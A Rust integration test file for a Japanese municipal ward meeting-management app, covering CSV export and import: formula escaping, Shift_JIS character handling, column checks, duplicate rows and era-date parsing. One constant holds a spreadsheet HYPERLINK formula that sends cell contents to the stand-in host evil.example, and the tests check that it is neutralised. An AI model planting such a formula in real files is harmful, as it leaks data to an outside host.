//! CSV files a city can trust (issue 15): formula text stays text in
//! Excel and comes back as typed, Shift_JIS never changes a character
//! silently, and an import refuses what it would otherwise lose or double.

use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::support::{TestApp, assert_problem, error_fields};

/// The cells of a UTF-8 export (BOM removed), header first.
fn cells(file: &[u8]) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(file.strip_prefix(b"\xEF\xBB\xBF").unwrap()).unwrap();
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

fn column(rows: &[Vec<String>], name: &str) -> Vec<String> {
    let i = rows[0].iter().position(|h| h == name).unwrap();
    rows[1..].iter().map(|r| r[i].clone()).collect()
}

async fn export(app: &TestApp, path: &str) -> Vec<u8> {
    let (status, _, body) = app.download(path).await;
    assert_eq!(status, StatusCode::OK, "{}", String::from_utf8_lossy(&body));
    body
}

fn messages(r: &crate::support::Resp) -> Vec<String> {
    r.body["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["message"].as_str().unwrap().to_string())
        .collect()
}

const PAYLOAD: &str = "=HYPERLINK(\"http://evil.example/?q=\"&A2&C2,\"詳細\")";

#[tokio::test]
async fn formula_text_is_exported_as_text_and_imports_back_as_typed() {
    let app = TestApp::spawn().await;
    let wards = app
        .municipality_with_wards("大阪市", &["北区", "都島区"])
        .await;
    let (a, b) = (wards[0], wards[1]);
    let owner = app.member(a, "-委員 一郎").await;
    app.member(b, "-委員 一郎").await;
    let r = app
        .post(
            &format!("/api/wards/{a}/meetings"),
            json!({ "held_on": "2026-05-10", "title": "@第1回推進会議", "kind": "推進会議",
                    "topics": [1], "attendee_ids": [owner], "minutes": "\t+議題\n'=引用" }),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.text);
    let cm = app.planned_countermeasure(a, 3, owner, "2026-11-01").await;
    let r = app
        .patch(
            &format!("/api/countermeasures/{cm}"),
            json!({ "issue": "'-既に引用符つき", "plan": "'普通の引用" }),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    let r = app
        .transition(
            cm,
            json!({ "to": "評価改善", "on": "2026-11-20", "evaluation": PAYLOAD, "improvement": "+1+1", "verdict": "一部達成", "verdict_reason": "目標の一部を達成" }),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);

    let meetings = export(&app, &format!("/wards/{a}/meetings.csv")).await;
    let rows = cells(&meetings);
    assert_eq!(column(&rows, "開催日"), ["2026-05-10"]);
    assert_eq!(column(&rows, "会議名"), ["'@第1回推進会議"]);
    assert_eq!(column(&rows, "議事録"), ["'\t+議題\n'=引用"]);
    assert_eq!(column(&rows, "出席者"), ["'-委員 一郎"]);
    let cms = export(&app, &format!("/wards/{a}/countermeasures.csv")).await;
    let rows = cells(&cms);
    assert_eq!(
        column(&rows, "評価"),
        ["'=HYPERLINK(\"http://evil.example/?q=\"&A2&C2,\"詳細\")"]
    );
    assert_eq!(column(&rows, "改善"), ["'+1+1"]);
    assert_eq!(column(&rows, "課題"), ["''-既に引用符つき"]);
    assert_eq!(column(&rows, "計画"), ["'普通の引用"]);
    assert_eq!(column(&rows, "担当委員"), ["'-委員 一郎"]);
    // Numbers, dates and codes are not touched.
    assert_eq!(column(&rows, "会議の内容（番号）"), ["3"]);
    assert_eq!(column(&rows, "段階"), ["評価改善"]);
    assert_eq!(column(&rows, "段階の日付"), ["2026-11-20"]);
    let members = cells(&export(&app, &format!("/wards/{a}/members.csv")).await);
    assert_eq!(column(&members, "氏名"), ["'-委員 一郎"]);

    // Into an empty ward and out again: the same files, the same text.
    for (what, file) in [("meetings", &meetings), ("countermeasures", &cms)] {
        let r = app
            .post_bytes(&format!("/api/wards/{b}/{what}/import"), file.clone())
            .await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.text);
        let again = export(&app, &format!("/wards/{b}/{what}.csv")).await;
        assert_eq!(
            String::from_utf8(again).unwrap(),
            String::from_utf8(file.clone()).unwrap()
        );
    }
    let m = app.get(&format!("/api/wards/{b}/meetings")).await;
    assert_eq!(m.body["items"][0]["title"], "@第1回推進会議");
    assert_eq!(m.body["items"][0]["minutes"], "\t+議題\n'=引用");
    let c = app.get(&format!("/api/wards/{b}/countermeasures")).await;
    let c: &Value = &c.body["items"][0];
    assert_eq!(c["evaluation"], PAYLOAD);
    assert_eq!(c["improvement"], "+1+1");
    assert_eq!(c["issue"], "'-既に引用符つき");
    assert_eq!(c["plan"], "'普通の引用");
    app.stop().await;
}

#[tokio::test]
async fn shift_jis_refuses_what_it_would_change_and_maps_look_alikes_on_request() {
    let app = TestApp::spawn().await;
    let wards = app
        .municipality_with_wards("大阪市", &["北区", "都島区"])
        .await;
    let (a, b) = (wards[0], wards[1]);
    let title = "研修会（会費¥500‾−）";
    let r = app
        .post(
            &format!("/api/wards/{a}/meetings"),
            json!({ "held_on": "2026-11-02", "title": title, "kind": "研修会",
                    "minutes": "—‖¢£¬¦〜" }),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.text);

    let (status, _, body) = app
        .download(&format!("/wards/{a}/meetings.csv?encoding=sjis"))
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    let page = String::from_utf8(body).unwrap();
    assert!(page.contains("2行目「会議名」"), "{page}");
    assert!(
        page.contains("「¥‾−」は Shift_JIS でそのまま表せない文字です"),
        "{page}"
    );
    assert!(page.contains("¥→￥、‾→￣、−→－"), "{page}");
    assert!(page.contains("2行目「議事録」"), "{page}");
    assert!(page.contains("—→―、‖→∥、¢→￠、£→￡、¬→￢、¦→￤"), "{page}");
    // The page links to the look-alike download: nobody edits a URL.
    let link = format!("href=\"/wards/{a}/meetings.csv?encoding=sjis-lookalike\"");
    assert!(page.contains(&link), "{page}");

    let (status, headers, file) = app
        .download(&format!("/wards/{a}/meetings.csv?encoding=sjis-lookalike"))
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(headers["content-type"], "text/csv; charset=Shift_JIS");
    let line = file
        .split(|b| *b == b'\n')
        .find(|l| l.starts_with(b"2026-11-02"))
        .unwrap();
    // ￥ 81 8F, ￣ 81 50, － 81 7C, never the ASCII 5C and 7E (read back
    // as \ and ~).
    assert!(line.windows(9).any(|w| w == b"\x81\x8F500\x81\x50\x81\x7C"));
    let (text, _, bad) = encoding_rs::SHIFT_JIS.decode(line);
    assert!(!bad && text.contains("研修会（会費￥500￣－）"), "{text}");
    assert!(!text.contains('\\') && !text.contains('~'), "{text}");
    let r = app
        .post_bytes(&format!("/api/wards/{b}/meetings/import"), file)
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    let m = app.get(&format!("/api/wards/{b}/meetings")).await;
    assert_eq!(m.body["items"][0]["title"], "研修会（会費￥500￣－）");
    assert_eq!(m.body["items"][0]["minutes"], "―∥￠￡￢￤～");
    app.stop().await;
}

#[tokio::test]
async fn duplicate_and_unknown_columns_are_refused_naming_them() {
    let app = TestApp::spawn().await;
    let wards = app.municipality_with_wards("大阪市", &["北区"]).await;
    let w = wards[0];
    let before = app.counts().await;
    // A second 会議名 used as a memo column: the first is not shadowed.
    let file = "開催日,会議名,種別,会議の内容,議事録,会議名\r\n\
        2026-11-03,第3回推進会議,推進会議,1;2,,メモ：会場変更\r\n";
    let r = app
        .post_bytes(&format!("/api/wards/{w}/meetings/import"), file.into())
        .await;
    assert_problem(&r, 422);
    assert_eq!(error_fields(&r), ["1行目「会議名」"]);
    let message = &messages(&r)[0];
    assert!(
        message.contains("「会議名」の列が2つ以上あります（2列目と6列目）"),
        "{message}"
    );
    assert!(
        message.contains("取り込める列：開催日・会議名・種別・会議の内容・議事録・出席者"),
        "{message}"
    );
    // A misspelt column, and one with data but no name.
    let file = "会議の内容（番号）,場面,対応策,課題,計画,担当委員,評価予定日,段階,ステータス,\r\n\
        1,,研修の企画,,,,,未具体化,終了,メモ\r\n";
    let r = app
        .post_bytes(
            &format!("/api/wards/{w}/countermeasures/import"),
            file.into(),
        )
        .await;
    assert_problem(&r, 422);
    assert_eq!(error_fields(&r), ["1行目「ステータス」", "1行目10列目"]);
    assert!(messages(&r)[0].contains("取り込める列：会議の内容（番号）・場面・対応策"));
    assert_eq!(app.counts().await, before);
    // An empty, nameless last column (as Excel leaves) is fine.
    let file = "開催日,会議名,種別,会議の内容,議事録,\r\n2026-11-03,第3回推進会議,推進会議,1,,\r\n";
    let r = app
        .post_bytes(&format!("/api/wards/{w}/meetings/import"), file.into())
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    app.stop().await;
}

#[tokio::test]
async fn free_text_is_kept_exactly_and_rows_already_present_refuse_the_file() {
    let app = TestApp::spawn().await;
    let wards = app.municipality_with_wards("大阪市", &["北区"]).await;
    let w = wards[0];
    let minutes = "　全角の字下げで始まる議事録\n最後に改行\n";
    let file = format!(
        "開催日,会議名,種別,会議の内容,議事録\r\n\
         2026-04-10, 第1回推進会議 ,推進会議, 1;2 ,\"{minutes}\"\r\n\
         2026-05-10,第2回推進会議,推進会議,3,\r\n"
    );
    let r = app
        .post_bytes(
            &format!("/api/wards/{w}/meetings/import"),
            file.clone().into(),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    let id = r.body["ids"][0].as_i64().unwrap();
    let m = app.get(&format!("/api/meetings/{id}")).await;
    assert_eq!(m.body["minutes"], minutes);
    // The title is trimmed as the form trims it; codes are trimmed.
    assert_eq!(m.body["title"], "第1回推進会議");
    assert_eq!(m.body["topics"], json!([1, 2]));

    // The same file again: refused whole, every present row named.
    let before = app.counts().await;
    let r = app
        .post_bytes(&format!("/api/wards/{w}/meetings/import"), file.into())
        .await;
    assert_problem(&r, 422);
    assert_eq!(error_fields(&r), ["2行目「会議名」", "3行目「会議名」"]);
    assert!(messages(&r)[0].contains("「2026-04-10 第1回推進会議」はこの区に登録済みです"));
    assert_eq!(app.counts().await, before);

    let file = "会議の内容（番号）,場面,対応策,課題,計画,担当委員,評価予定日,段階\r\n\
        1,,研修の企画,,,,,未具体化\r\n";
    let r = app
        .post_bytes(
            &format!("/api/wards/{w}/countermeasures/import"),
            file.into(),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    let file = "会議の内容（番号）,場面,対応策,課題,計画,担当委員,評価予定日,段階\r\n\
        2,,研修の企画,,,,,未具体化\r\n\
        1,,研修の企画,,,,,未具体化\r\n";
    let r = app
        .post_bytes(
            &format!("/api/wards/{w}/countermeasures/import"),
            file.into(),
        )
        .await;
    assert_problem(&r, 422);
    assert_eq!(error_fields(&r), ["3行目「対応策」"], "{}", r.text);
    app.stop().await;
}

#[tokio::test]
async fn dates_as_staff_type_them_are_imported_and_wrong_ones_named_in_japanese() {
    let app = TestApp::spawn().await;
    let wards = app.municipality_with_wards("大阪市", &["北区"]).await;
    let w = wards[0];
    let file = "開催日,会議名,種別,会議の内容,議事録\r\n\
        2017年4月1日,A,推進会議,1,\r\n\
        平成29年4月2日,B,推進会議,1,\r\n\
        H29.4.3,C,推進会議,1,\r\n\
        ２０１７／４／４,D,推進会議,1,\r\n\
        平成31年4月30日,E,推進会議,1,\r\n\
        令和元年5月1日,F,推進会議,1,\r\n\
        平成31年5月1日,G,推進会議,1,\r\n\
        R1.5.2,H,推進会議,1,\r\n\
        Ｒ８．１１．２,I,推進会議,1,\r\n";
    let r = app
        .post_bytes(&format!("/api/wards/{w}/meetings/import"), file.into())
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    let list = app.get(&format!("/api/wards/{w}/meetings?limit=100")).await;
    let mut got: Vec<(String, String)> = list.body["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| {
            (
                m["title"].as_str().unwrap().to_string(),
                m["held_on"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    got.sort();
    let expected = [
        ("A", "2017-04-01"),
        ("B", "2017-04-02"),
        ("C", "2017-04-03"),
        ("D", "2017-04-04"),
        ("E", "2019-04-30"),
        ("F", "2019-05-01"),
        ("G", "2019-05-01"),
        ("H", "2019-05-02"),
        ("I", "2026-11-02"),
    ];
    let expected: Vec<(String, String)> = expected
        .iter()
        .map(|(t, d)| (t.to_string(), d.to_string()))
        .collect();
    assert_eq!(got, expected);

    let file = "開催日,会議名,種別,会議の内容,議事録\r\n\
        令和元年4月30日,J,推進会議,1,\r\n\
        2017-02-30,K,推進会議,1,\r\n\
        来週,L,推進会議,1,\r\n";
    let r = app
        .post_bytes(&format!("/api/wards/{w}/meetings/import"), file.into())
        .await;
    assert_problem(&r, 422);
    assert_eq!(
        messages(&r),
        [
            "「令和元年4月30日」は令和の期間にない日付です",
            "「2017-02-30」という日はありません",
            "「来週」は日付として読めません（2017-04-01、2017/4/1、2017年4月1日、平成29年4月1日、H29.4.1 のように入力してください）",
        ]
    );
    app.stop().await;
}
